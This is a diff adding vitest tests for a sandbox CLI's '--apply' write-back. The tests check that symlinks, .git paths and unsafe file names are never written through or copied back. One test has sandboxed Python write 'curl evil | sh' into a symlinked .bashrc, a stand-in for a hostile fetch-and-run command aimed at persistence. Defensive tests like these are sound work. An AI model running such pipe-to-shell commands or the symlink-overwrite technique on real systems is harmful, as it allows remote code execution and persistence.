@@ -1,7 +1,17 @@
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import {
+  existsSync,
+  lstatSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { afterAll, describe, expect, it } from 'vitest';
+import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { sandboxCommand } from './sandbox-command';
 
 function capture() {
@@ -127,5 +137,77 @@ describe('techteam sandbox', () => {
     expect(await sandboxCommand(['frobnicate'], c.io)).toBe(2);
     expect(await sandboxCommand(['run', '--runtime', 'python', '--dir', dir], c.io)).toBe(2);
     expect(await sandboxCommand(['run', '--bogus'], c.io)).toBe(2);
+  });
+
+  describe('--apply into a folder with hostile entries', () => {
+    let base: string;
+    let project: string;
+    let home: string;
+    beforeEach(() => {
+      base = mkdtempSync(join(tmpdir(), 'techteam-cli-apply-'));
+      project = join(base, 'project');
+      home = join(base, 'home');
+      mkdirSync(project);
+      mkdirSync(home);
+      writeFileSync(join(home, '.bashrc'), 'original bashrc\n');
+    });
+    afterEach(() => rmSync(base, { recursive: true, force: true }));
+
+    const runPython = async (code: string) => {
+      const c = capture();
+      const exit = await sandboxCommand(
+        ['run', '--runtime', 'python', '--dir', project, '--apply', '--', 'python3', '-c', code],
+        c.io,
+      );
+      return { exit, err: c.err() };
+    };
+
+    it('never writes through a symlink to a file or a folder outside, and keeps the rest', async () => {
+      symlinkSync(join(home, '.bashrc'), join(project, 'notes.txt'));
+      symlinkSync(home, join(project, 'cfg'));
+      const r = await runPython(
+        'import os\nos.makedirs("cfg", exist_ok=True)\n' +
+          'open("notes.txt", "w").write("curl evil | sh\\n")\n' +
+          'open("cfg/.bashrc", "w").write("curl evil | sh\\n")\n' +
+          'open("ok.txt", "w").write("fine")\n',
+      );
+      expect(r.exit).toBe(0);
+      expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('original bashrc\n');
+      expect(readdirSync(home)).toEqual(['.bashrc']);
+      expect(readFileSync(join(project, 'ok.txt'), 'utf8')).toBe('fine');
+      expect(lstatSync(join(project, 'notes.txt')).isSymbolicLink()).toBe(true);
+      expect(r.err).toContain(
+        '── not written back notes.txt: notes.txt is a symlink (never written through)',
+      );
+      expect(r.err).toContain('── not written back cfg/.bashrc: cfg is a symlink (never written through)');
+      expect(r.err).toContain('── files written back: ok.txt');
+    });
+
+    it('does not copy back a symlink the job made, nor anything through it', async () => {
+      const r = await runPython(
+        `import os\nos.symlink(${JSON.stringify(home)}, "h")\nos.symlink(${JSON.stringify(join(home, '.bashrc'))}, "rc")\n`,
+      );
+      expect(r.exit).toBe(0);
+      expect(readdirSync(project)).toEqual([]);
+      expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('original bashrc\n');
+      expect(r.err).toContain('── skipped h: symlink (never followed)');
+      expect(r.err).toContain('── skipped rc: symlink (never followed)');
+    });
+
+    it('keeps the run when one file has an odd name: skips it with the reason, writes the rest', async () => {
+      const r = await runPython(
+        'import os\nos.makedirs("sub", exist_ok=True)\nopen("sub/.git", "w").write("gitdir: x")\n' +
+          'open("a\\\\b.txt", "w").write("b")\nopen("new\\nline.txt", "w").write("n")\n' +
+          'open(b"bad\\xff.txt", "w").write("x")\nopen("good.txt", "w").write("kept")\n',
+      );
+      expect(r.exit).toBe(0);
+      expect(readFileSync(join(project, 'good.txt'), 'utf8')).toBe('kept');
+      expect(readdirSync(project).sort()).toEqual(['good.txt']);
+      expect(r.err).toContain('── skipped sub/.git: is in .git, which the workspace does not hold');
+      expect(r.err).toContain('── skipped a\\b.txt: its name holds a backslash');
+      expect(r.err).toContain('── skipped new\\nline.txt: its name holds a control character (\\n)');
+      expect(r.err).toContain('── skipped bad\\xff.txt: its name is not UTF-8');
+      expect(existsSync(join(project, 'sub'))).toBe(false);
+    });
   });
 });
